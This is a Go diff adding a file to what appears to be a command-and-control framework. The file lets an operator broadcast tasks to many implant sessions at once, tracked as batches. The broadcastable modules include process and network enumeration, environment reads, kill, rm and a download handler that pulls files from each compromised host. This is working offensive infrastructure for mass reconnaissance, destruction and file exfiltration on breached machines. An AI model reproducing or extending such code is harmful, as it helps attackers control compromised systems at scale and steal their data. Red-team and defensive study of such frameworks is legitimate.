@@ -0,0 +1,149 @@
+package rpc
+
+import (
+	"context"
+	"fmt"
+	"github.com/chainreactors/malice-network/helper/consts"
+	"github.com/chainreactors/malice-network/proto/client/clientpb"
+	"github.com/chainreactors/malice-network/proto/implant/implantpb"
+	"github.com/chainreactors/malice-network/server/internal/core"
+	"google.golang.org/grpc/metadata"
+	"path/filepath"
+	"sync"
+	"time"
+)
+
+// broadcastWorkers - sessions dispatched concurrently by one broadcast
+const broadcastWorkers = 16
+
+type taskHandler func(*Server, context.Context, *implantpb.Request) (*clientpb.Task, error)
+
+// broadcastHandlers - modules can be broadcast, keyed by request name
+var broadcastHandlers = map[string]taskHandler{
+	consts.ModuleWhoami:        (*Server).Whoami,
+	consts.ModulePs:            (*Server).Ps,
+	consts.ModuleNetstat:       (*Server).Netstat,
+	consts.ModuleEnv:           (*Server).Env,
+	consts.ModuleSetEnv:        (*Server).Setenv,
+	consts.ModuleUnsetEnv:      (*Server).Unsetenv,
+	consts.ModuleKill:          (*Server).Kill,
+	consts.ModuleInfo:          (*Server).Info,
+	consts.ModulePwd:           (*Server).Pwd,
+	consts.ModuleLs:            (*Server).Ls,
+	consts.ModuleCd:            (*Server).Cd,
+	consts.ModuleMkdir:         (*Server).Mkdir,
+	consts.ModuleRm:            (*Server).Rm,
+	consts.ModuleCat:           (*Server).Cat,
+	consts.ModuleMv:            (*Server).Mv,
+	consts.ModuleCp:            (*Server).Cp,
+	consts.ModuleChmod:         (*Server).Chmod,
+	consts.ModuleListModule:    (*Server).ListModules,
+	consts.ModuleListExtension: (*Server).ListExtensions,
+	consts.ModuleDownload:      downloadHandler,
+}
+
+// BroadcastTask - fan out the request to sessions by ids or filter, every session gets its own task,
+// all tasks are tracked under one batch
+func (rpc *Server) BroadcastTask(ctx context.Context, req *clientpb.BroadcastRequest) (*clientpb.Batch, error) {
+	sessionIDs, err := resolveSessions(req.SessionIds, req.Filter)
+	if err != nil {
+		return nil, err
+	}
+	batch, err := rpc.broadcast(ctx, sessionIDs, req.Request, getClientName(ctx))
+	if err != nil {
+		return nil, err
+	}
+	rpcLog.Infof("Broadcast %s to %d sessions, batch %d", req.Request.Name, len(sessionIDs), batch.Id)
+	return batch.ToProtobuf(), nil
+}
+
+// broadcast - run request on every session through its rpc handler
+func (rpc *Server) broadcast(ctx context.Context, sessionIDs []string, req *implantpb.Request, callby string) (*core.Batch, error) {
+	handler, ok := broadcastHandlers[req.GetName()]
+	if !ok {
+		return nil, ErrNotBroadcastable
+	}
+	md, _ := metadata.FromIncomingContext(ctx)
+	batch := core.NewBatch(req.Name, callby)
+	wg := &sync.WaitGroup{}
+	// a slow session must not hold up the others, at most broadcastWorkers sessions are dispatched at a time
+	workers := make(chan struct{}, broadcastWorkers)
+	for _, sid := range sessionIDs {
+		wg.Add(1)
+		workers <- struct{}{}
+		go func(sid string) {
+			defer wg.Done()
+			defer func() {
+				<-workers
+			}()
+			sess, ok := core.Sessions.Get(sid)
+			if !ok {
+				batch.Fail(sid, ErrNotFoundSession)
+				return
+			}
+			sessionMD := md.Copy()
+			sessionMD.Set("session_id", sid)
+			task, err := handler(rpc, metadata.NewIncomingContext(ctx, sessionMD), req)
+			if err != nil {
+				batch.Fail(sid, err)
+				return
+			}
+			if t := sess.Tasks.Get(task.TaskId); t != nil {
+				t.Callby = callby
+				batch.Add(t)
+			}
+		}(sid)
+	}
+	wg.Wait()
+	batch.Dispatched()
+	return batch, nil
+}
+
+// resolveSessions - session ids, or ids of sessions matched by filter
+func resolveSessions(sessionIDs []string, filterReq *clientpb.SessionFilter) ([]string, error) {
+	if filterReq != nil {
+		filter, err := resolveSessionFilter(filterReq)
+		if err != nil {
+			return nil, err
+		}
+		sessionIDs = nil
+		for _, sess := range core.Sessions.Filter(filter) {
+			sessionIDs = append(sessionIDs, sess.ID)
+		}
+	}
+	if len(sessionIDs) == 0 {
+		return nil, ErrNotFoundSession
+	}
+	return sessionIDs, nil
+}
+
+// downloadHandler - download by request input, saved with session id and time so that repeated
+// downloads of the same path do not collide
+func downloadHandler(rpc *Server, ctx context.Context, req *implantpb.Request) (*clientpb.Task, error) {
+	sid, err := getSessionID(ctx)
+	if err != nil {
+		return nil, err
+	}
+	name := fmt.Sprintf("%s_%d_%s", sid, time.Now().Unix(), filepath.Base(req.Input))
+	return rpc.Download(ctx, &implantpb.DownloadRequest{
+		Name: name,
+		Path: req.Input,
+	})
+}
+
+// GetBatch - progress and tasks of a batch
+func (rpc *Server) GetBatch(ctx context.Context, req *clientpb.Batch) (*clientpb.Batch, error) {
+	batch := core.Batches.Get(req.Id)
+	if batch == nil {
+		return nil, ErrNotFoundBatch
+	}
+	return batch.ToProtobuf(), nil
+}
+
+func (rpc *Server) GetBatches(ctx context.Context, _ *clientpb.Empty) (*clientpb.Batches, error) {
+	batches := &clientpb.Batches{Batches: []*clientpb.Batch{}}
+	for _, batch := range core.Batches.All() {
+		batches.Batches = append(batches.Batches, batch.ToProtobuf())
+	}
+	return batches, nil
+}